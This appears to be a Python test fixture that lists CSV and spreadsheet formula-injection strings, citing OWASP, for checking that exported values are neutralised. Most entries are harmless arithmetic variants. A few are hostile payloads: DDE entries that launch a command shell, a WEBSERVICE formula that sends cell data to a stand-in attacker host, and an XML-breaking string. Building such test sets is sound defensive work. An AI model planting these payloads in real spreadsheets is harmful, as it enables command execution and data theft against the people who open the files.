"""What a spreadsheet would run, were it not told that it is text."""

# OWASP, "CSV Injection", and what spreadsheets take for the same; with blanks before, and full-width.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1;1)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"1")',
    '=HYPERLINK("https://evil.example";"Click")',
    '=WEBSERVICE("https://evil.example/?"&A1)',
    "{=1+1}",
    "'=1+1",
    '"=1+1',
    "</t></is></c><c><f>1+1</f></c>",
    "]]>=1+1",
)
